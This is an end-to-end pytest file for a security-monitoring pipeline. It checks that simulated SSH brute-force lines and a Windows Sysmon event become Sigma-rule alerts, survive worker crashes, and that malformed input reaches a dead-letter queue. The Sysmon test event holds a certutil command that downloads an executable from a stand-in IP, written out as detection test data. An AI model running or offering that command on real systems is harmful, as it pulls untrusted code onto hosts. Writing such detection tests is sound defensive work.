"""The pipeline end to end: each stage its own process, over the real Kafka and Elasticsearch.

sshd lines are written into a tailed file; the detector's Sigma engine (socpipe's rules and one
of SigmaHQ's) turns the failures into detections; the alert is found through the API. Then the
detector and alerting workers are killed without warning and restarted: what they had not
committed is replayed, and the alert still counts each failed login exactly once. Last, a
second agency's collector ships a Windows event that a SigmaHQ rule catches.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
import yaml

from socpipe.kafka import ensure_topics, make_consumer, make_producer
from socpipe.records import DeadLetter, EcsEvent
from socpipe.settings import Settings
from tests.support.stages import Stages, free_port

pytestmark = [pytest.mark.e2e, pytest.mark.kafka, pytest.mark.elasticsearch, pytest.mark.slow]

TOKEN = "e2e-analyst-token-0123456789"
REPO = Path(__file__).resolve().parents[2]
CONFIG = REPO / "deploy" / "config"
CERTUTIL_RULE = "rules/windows/process_creation/proc_creation_win_certutil_download.yml"
ATTACKER = "203.0.113.77"


@pytest.fixture
def stages(
    pipeline_settings: Settings, tmp_path: Path, shared_data: Path
) -> Iterator[tuple[Stages, Settings, int]]:
    port = free_port()
    values: dict[str, Any] = pipeline_settings.model_dump(mode="json")
    values["api"] = {
        "host": "127.0.0.1",
        "port": port,
        "tokens": [{"name": "e2e", "token": TOKEN, "role": "analyst"}],
    }
    values["agency"] = {"id": "phuong-phuc-xa", "tier": "commune", "name": "UBND phường Phúc Xá"}
    values["collector"].update(id="e2e-collector", host="ubnd-phucxa-srv", poll_interval_s=0.2)
    values["detector"]["agencies_file"] = str(CONFIG / "agencies.yaml")
    values["detector"]["assets_file"] = str(CONFIG / "assets.yaml")
    values["detector"]["rules_paths"] = [
        str(REPO / "rules" / "socpipe"),
        str(shared_data / "sigma" / CERTUTIL_RULE),
    ]
    config = tmp_path / "socpipe.yaml"
    config.write_text(yaml.safe_dump(values, allow_unicode=True), encoding="utf-8")
    ensure_topics(pipeline_settings.kafka)
    running = Stages(config, tmp_path)
    try:
        yield running, pipeline_settings, port
    finally:
        running.stop_all()


def sshd(line: str) -> str:
    now = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh"))
    return f"{now:%b} {now.day:>2} {now:%H:%M:%S} ubnd-phucxa-srv sshd[4242]: {line}\n"


def wait_for_alert(port: int, running: Stages, count: int, timeout_s: float = 120) -> Any:
    deadline = time.monotonic() + timeout_s
    last: Any = None
    while time.monotonic() < deadline:
        running.check()
        try:
            response = httpx.get(
                f"http://127.0.0.1:{port}/alerts",
                headers={"Authorization": f"Bearer {TOKEN}"},
                timeout=5,
            )
            if response.status_code == 200:
                last = response.json()
                if last["total"] and last["data"][0]["count"] >= count:
                    return last
        except httpx.HTTPError:
            pass
        time.sleep(0.5)
    raise AssertionError(f"no alert with count {count} within {timeout_s}s; last answer {last}")


def test_sshd_lines_become_one_alert_through_every_stage(
    stages: tuple[Stages, Settings, int], tmp_path: Path
) -> None:
    running, settings, port = stages
    auth_log = tmp_path / "auth.log"
    auth_log.touch()
    running.start("collect", "collect", "--path", str(auth_log))
    running.start("detect", "detect")
    running.start("alert", "alert")
    running.start("api", "api")

    with auth_log.open("a", encoding="utf-8") as log:
        for _ in range(5):
            log.write(sshd(f"Failed password for nguyễn.văn.a from {ATTACKER} port 5151 ssh2"))
        log.write(sshd("Accepted publickey for tran.thi.b from 10.0.0.8 port 2222 ssh2"))
        log.write("kernel panic in the middle of nowhere: not a syslog line\n")

    body = wait_for_alert(port, running, 5)
    assert body["total"] == 1
    (alert,) = body["data"]
    assert alert["count"] == 5
    assert alert["rule"]["title"] == "SSH authentication failure"
    assert alert["entities"] == {
        "agency": "phuong-phuc-xa",
        "tier": "commune",
        "host": "ubnd-phucxa-srv",
        "user": "nguyễn.văn.a",
        "source_ip": ATTACKER,
    }
    detail = httpx.get(
        f"http://127.0.0.1:{port}/alerts/{alert['id']}",
        headers={"Authorization": f"Bearer {TOKEN}"},
        timeout=5,
    ).json()
    assert "nguyễn.văn.a" in detail["events"][0]["event"]["original"]
    # Judged by the Sigma engine, with socpipe's rule for what the foundation's check did.
    assert detail["detector"]["type"] == "sigma"
    assert httpx.get(f"http://127.0.0.1:{port}/alerts", timeout=5).status_code == 401

    # The line no parser knows is an event all the same, tagged unparsed, with its agency.
    events = make_consumer(
        settings.kafka, "e2e-events", [settings.kafka.topics.events], consumer_timeout_ms=30_000
    )
    try:
        unparsed = [
            e
            for e in (EcsEvent.from_json(m.value) for m in events)
            if e.tags and "unparsed" in e.tags
        ]
    finally:
        events.close()
    assert [e.event.original for e in unparsed] == [
        "kernel panic in the middle of nowhere: not a syslog line"
    ]
    assert unparsed[0].organization is not None
    assert unparsed[0].organization.id == "phuong-phuc-xa"
    assert unparsed[0].organization.name == "UBND phường Phúc Xá"  # from the registry

    # A message that is not a raw batch at all goes to the DLQ with stage and reason, and the
    # detector goes on.
    producer = make_producer(settings.kafka)
    producer.send(settings.kafka.topics.raw, value=b"\x00not json").get(timeout=30)
    producer.close()
    consumer = make_consumer(
        settings.kafka, "e2e-dlq", [settings.kafka.topics.dlq], consumer_timeout_ms=30_000
    )
    try:
        letter = DeadLetter.from_json(next(iter(consumer)).value)
    finally:
        consumer.close()
    assert letter.stage == "detect"
    assert "not valid JSON" in letter.reason and settings.kafka.topics.raw in letter.reason

    # Crash the detector and the alerting worker; restart them; nothing is counted twice.
    running.kill("detect")
    running.kill("alert")
    with auth_log.open("a", encoding="utf-8") as log:
        for _ in range(3):
            log.write(sshd(f"Failed password for nguyễn.văn.a from {ATTACKER} port 5152 ssh2"))
    running.start("detect", "detect")
    running.start("alert", "alert")
    body = wait_for_alert(port, running, 8)
    assert body["total"] == 1
    assert body["data"][0]["count"] == 8
    time.sleep(3)  # a late duplicate would show up here
    again = httpx.get(
        f"http://127.0.0.1:{port}/alerts", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=5
    ).json()
    assert again["data"][0]["count"] == 8

    # Another agency's Windows machine, shipped as NXLog writes events: a SigmaHQ rule fires.
    winlog = tmp_path / "winlog.json"
    winlog.touch()
    running.start(
        "collect-windows",
        "collect",
        "--path",
        str(winlog),
        env={
            "SOCPIPE_AGENCY__ID": "so-noi-vu",
            "SOCPIPE_AGENCY__TIER": "province",
            "SOCPIPE_COLLECTOR__ID": "e2e-windows",
            "SOCPIPE_COLLECTOR__HOST": "snv-pc-12",
            "SOCPIPE_COLLECTOR__FORMAT": "winlog.json",
            "SOCPIPE_COLLECTOR__CHECKPOINT_FILE": str(tmp_path / "windows-checkpoints.json"),
        },
    )
    now = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh"))
    event = {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "snv-pc-12.snv.tinh.gov.vn",
        "EventTime": f"{now:%Y-%m-%d %H:%M:%S}",
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        "User": "SNV\\lê.thị.hoa",
    }
    with winlog.open("a", encoding="utf-8") as log:
        log.write(json.dumps(event, ensure_ascii=False) + "\n")
    certutil = "19b08b1c-861d-4e75-a1ef-ea0c1baf202b"  # SigmaHQ's rule of that name
    windows = wait_for_alerts(port, running, lambda a: a["rule"]["id"] == certutil)
    assert windows["rule"]["title"] == "Suspicious Download Via Certutil.EXE"
    assert windows["entities"]["agency"] == "so-noi-vu"
    assert windows["entities"]["host"] == "snv-pc-12.snv.tinh.gov.vn"
    assert windows["entities"]["user"] == "lê.thị.hoa"
    assert "t1105" in [t.lower() for t in windows["rule"]["techniques"]]


def wait_for_alerts(port: int, running: Stages, wanted: Any, timeout_s: float = 120) -> Any:
    """The first alert ``wanted`` accepts, waiting for it."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        running.check()
        response = httpx.get(
            f"http://127.0.0.1:{port}/alerts",
            headers={"Authorization": f"Bearer {TOKEN}"},
            timeout=5,
        )
        if response.status_code == 200:
            found = [alert for alert in response.json()["data"] if wanted(alert)]
            if found:
                return found[0]
        time.sleep(0.5)
    raise AssertionError(f"no such alert within {timeout_s}s")
